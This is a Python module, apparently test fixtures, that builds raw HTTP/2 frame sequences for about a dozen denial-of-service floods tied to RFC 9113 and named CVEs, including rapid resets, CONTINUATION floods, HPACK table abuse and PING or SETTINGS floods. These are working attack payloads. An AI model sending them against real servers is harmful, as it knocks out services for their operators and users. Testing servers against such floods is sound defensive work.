"""HTTP/2's floods: frames that are cheap to send and dear to take, one connection's worth of each.

Names as in RFC 9113 section 10.5 and in the reports that made them known (CVE-2019-9511 and after, CVE-2023-44487,
CVE-2024-27316, CVE-2025-8671). A connection that is ended for its flood is followed by the next."""

from __future__ import annotations

import random
from typing import Final

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


#: What a client says first.
GREETING: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)

#: GET /small of `reviews`: GET and http of the static table, the rest as literals that no table keeps.
GET: Final = b"\x82\x86\x04\x06/small\x01\x07reviews"

#: A field that goes into the table, and what names it again.
LONG_FIELD: Final = b"\x40\x01a\x7f\x81\x17" + b"x" * 3072
AGAIN: Final = b"\xbe"

CANCEL: Final = (8).to_bytes(4, "big")


def ids(count: int) -> range:
    """A client's streams."""
    return range(1, 2 * count, 2)


def asked(stream: int, block: bytes = GET) -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


def unknown_fields(seed: int, count: int) -> bytes:
    """Literals, not to be kept, that nobody has seen before."""
    pick = random.Random(seed)
    return b"".join(b"\x00\x0ax-%08x\x10%b" % (pick.getrandbits(32), pick.randbytes(8).hex().encode())
                    for _ in range(count))  # fmt: skip


OPEN: Final = GREETING + frame(HEADERS, END_HEADERS, 1, GET)

FLOODS: Final[dict[str, bytes]] = {
    "rapid resets": GREETING + b"".join(asked(n) + frame(RST_STREAM, 0, n, CANCEL) for n in ids(4000)),
    "resets that it is made to send": GREETING
    + b"".join(asked(n) + frame(WINDOW_UPDATE, 0, n, bytes(4)) for n in ids(4000)),
    "continuations": GREETING
    + frame(HEADERS, END_STREAM, 1, GET)
    + frame(CONTINUATION, 0, 1, unknown_fields(1, 500)) * 64,
    "empty continuations": GREETING + frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1) * 20_000,
    "fields of the table": GREETING
    + asked(1, GET + LONG_FIELD)
    + b"".join(asked(n, GET + AGAIN * 19) for n in ids(1000)[1:]),
    "unknown fields": GREETING + b"".join(asked(n, GET + unknown_fields(n, 90)) for n in ids(200)),
    "settings": OPEN + frame(SETTINGS) * 20_000,
    "pings": OPEN + frame(PING, 0, 0, bytes(8)) * 20_000,
    "empty data": OPEN + frame(DATA, 0, 1) * 20_000,
    "priorities": OPEN + frame(PRIORITY, 0, 1, bytes(5)) * 20_000,
    "window updates": OPEN + frame(WINDOW_UPDATE, 0, 1, bytes([0, 0, 0, 1])) * 20_000,
    "shut windows": GREETING
    + frame(SETTINGS, 0, 0, bytes([0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0]))
    + b"".join(map(asked, ids(1000))),
    "heads without end": GREETING + b"".join(frame(HEADERS, END_HEADERS, n, GET) for n in ids(1000)),
}
